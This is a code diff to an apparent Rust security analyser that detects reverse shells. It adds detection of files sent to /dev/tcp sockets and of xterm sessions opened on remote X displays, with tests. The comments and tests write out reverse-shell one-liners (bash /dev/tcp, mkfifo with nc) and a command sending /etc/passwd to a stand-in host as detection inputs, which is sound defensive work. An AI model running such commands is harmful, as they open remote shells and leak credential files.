@@ -2,7 +2,9 @@
 //! `/dev/tcp/HOST/PORT` (`bash -i >& /dev/tcp/..`, `0<&196`), a named pipe relaying a shell
 //! through nc/telnet/openssl (`mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`), and
 //! a network client piped into a shell (`telnet h p | /bin/sh`).
-//! A lone `echo > /dev/tcp/h/p` is a port probe, not a shell: noted, not fired.
+//! A lone `echo > /dev/tcp/h/p` is a port probe, not a shell: noted, not fired; a file
+//! written there (`cat /etc/passwd > /dev/tcp/h/p`) is data sent out. An xterm opened on
+//! another host's X display is a terminal handed to that host.
 
 use super::{piped_into, runs_shell, ClassSet, Ctx, Findings, ProgramSet};
 use crate::analysis::shell::{RedirectOp, SimpleCommand};
@@ -11,7 +13,7 @@ use crate::knowledge::{signals, ToolClass};
 pub fn wants(cx: &Ctx) -> bool {
     cx.has_redirects()
         || cx.runs_any(ClassSet::of(&[ToolClass::Netcat]))
-        || cx.may_run(ProgramSet::of(&["ztcp", "zmodload", "openssl"]))
+        || cx.may_run(ProgramSet::of(&["ztcp", "zmodload", "openssl", "xterm"]))
         || cx.unsplit_script().is_some()
 }
 
@@ -35,6 +37,11 @@ pub fn detect(cx: &Ctx, out: &mut Findings) {
                     signals::DEV_TCP_REDIRECT,
                     format!("{} with its streams on {}", short(c), peer_of(&r.target)),
                 );
+            } else if let Some(file) = file_sent(c) {
+                out.hit(
+                    signals::NETWORK_EXFILTRATION_PIPE,
+                    format!("{p} sends {file} to {}", peer_of(&r.target)),
+                );
             } else {
                 out.note(format!(
                     "{p} writes to {} without a shell: a port probe, not a reverse shell",
@@ -50,6 +57,12 @@ pub fn detect(cx: &Ctx, out: &mut Findings) {
         }
         if p == "mkfifo" || (p == "mknod" && super::args(c).iter().any(|a| a == "p")) {
             has_fifo = true;
+        }
+        if let Some(host) = remote_display(c) {
+            out.hit(
+                signals::REMOTE_DISPLAY_SHELL,
+                format!("xterm opens a terminal on {host}'s X display"),
+            );
         }
         let client = c.class == Some(ToolClass::Netcat)
             || (p == "openssl" && super::args(c).iter().any(|a| a == "s_client"));
@@ -109,6 +122,37 @@ pub fn detect(cx: &Ctx, out: &mut Findings) {
     }
 }
 
+/// The host of `xterm -display HOST:N`, when it is another machine: the terminal, and the
+/// shell in it, are driven from there. Local displays (`:0`, `unix:0`, `localhost:10.0`, the
+/// last what ssh's X forwarding sets) are not.
+fn remote_display<'c>(c: &'c SimpleCommand) -> Option<&'c str> {
+    if c.program() != "xterm" {
+        return None;
+    }
+    let display = super::opt_value(c, &["-display"])?;
+    let host = display
+        .rsplit_once(':')?
+        .0
+        .trim_start_matches('[')
+        .trim_end_matches(']');
+    (!matches!(host, "" | "unix" | "localhost" | "127.0.0.1" | "::1")).then_some(host)
+}
+
+/// The file a reader or archiver writes to its output (`cat /etc/passwd`, `tar c /etc`):
+/// with the output on a socket, that file leaves. None for probes (`echo`, `cat </dev/null`).
+fn file_sent<'c>(c: &'c SimpleCommand) -> Option<&'c str> {
+    if !matches!(
+        c.program(),
+        "cat" | "tar" | "dd" | "base64" | "gzip" | "xxd" | "head" | "tail"
+    ) {
+        return None;
+    }
+    super::args(c)
+        .iter()
+        .map(|a| a.strip_prefix("if=").unwrap_or(a))
+        .find(|a| a.starts_with('/') && *a != "/dev/null" && !a.starts_with("/dev/std"))
+}
+
 fn is_net_device(t: &str) -> bool {
     let t = t.trim_start_matches('&');
     t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/")
@@ -141,6 +185,39 @@ fn short(c: &SimpleCommand) -> String {
 mod tests {
     use super::super::testutil::*;
     use super::*;
+
+    #[test]
+    fn an_xterm_on_another_hosts_display() {
+        assert_eq!(
+            run(detect, &["xterm", "-display", "198.51.100.7:1"]),
+            ["remote_display_shell"]
+        );
+        for local in [
+            &["xterm", "-display", ":0", "-geometry", "80x24"][..],
+            &["xterm", "-display", "localhost:10.0"],
+            &["xterm", "-display", "unix:0"],
+            &["xterm", "-geometry", "120x40+10:20"],
+        ] {
+            assert!(run(detect, local).is_empty(), "{local:?}");
+        }
+    }
+
+    #[test]
+    fn a_file_written_to_dev_tcp_is_sent_a_probe_is_not() {
+        assert_eq!(
+            run(
+                detect,
+                &["sh", "-c", "cat /etc/passwd > /dev/tcp/198.51.100.4/9001"]
+            ),
+            ["network_exfiltration_pipe"]
+        );
+        for probe in [
+            "echo > /dev/tcp/db/5432",
+            "cat < /dev/null > /dev/tcp/db/5432",
+        ] {
+            assert!(run(detect, &["sh", "-c", probe]).is_empty(), "{probe}");
+        }
+    }
 
     #[test]
     fn fires_on_bash_dev_tcp() {
